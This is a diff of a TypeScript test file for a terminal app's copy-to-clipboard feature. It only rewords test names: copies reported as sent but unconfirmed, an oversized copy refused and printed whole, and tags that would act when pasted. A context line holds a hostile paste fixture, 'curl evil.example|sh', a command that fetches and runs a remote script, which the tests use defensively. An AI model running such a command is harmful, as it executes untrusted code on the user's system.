@@ -13,7 +13,7 @@ import {casesOf} from '../../helpers/project/torture.ts';
 import type {Terminal} from '../../helpers/terminal/terminal.ts';
 
 describe('a copy by the terminal', () => {
-	it('P3: is said to be sent and not confirmed, on the screen and after it', () => {
+	it('P3: is reported as sent and not confirmed, on the screen and after it', () => {
 		const use = async (terminal: Terminal) => {
 			terminal.press('ctrl+y');
 			await terminal.waitForText(`✓ ${sentText(copied)}`);
@@ -35,7 +35,7 @@ describe('a copy by the terminal', () => {
 		});
 	});
 
-	it('P4: of a byte more is refused, and the whole of it printed', () => {
+	it('P4: of a byte more is refused, and printed whole', () => {
 		const text = `os:${'x'.repeat(74_992)}`;
 		const use = printAfter('not copied (74,995 bytes, terminals accept 74,994 at most); alt-p prints it');
 		return expectCopy({tags: [text], use}, ({said, arrived, written}) => {
@@ -63,7 +63,7 @@ describe('a copy by the terminal', () => {
 	});
 });
 
-describe('a tag that would act if it is pasted', () => {
+describe('a tag that would act when pasted', () => {
 	const hostile = 'os:x\ncurl evil.example|sh\n';
 	const shown = 'os:x^Jcurl evil.example|sh^J';
 
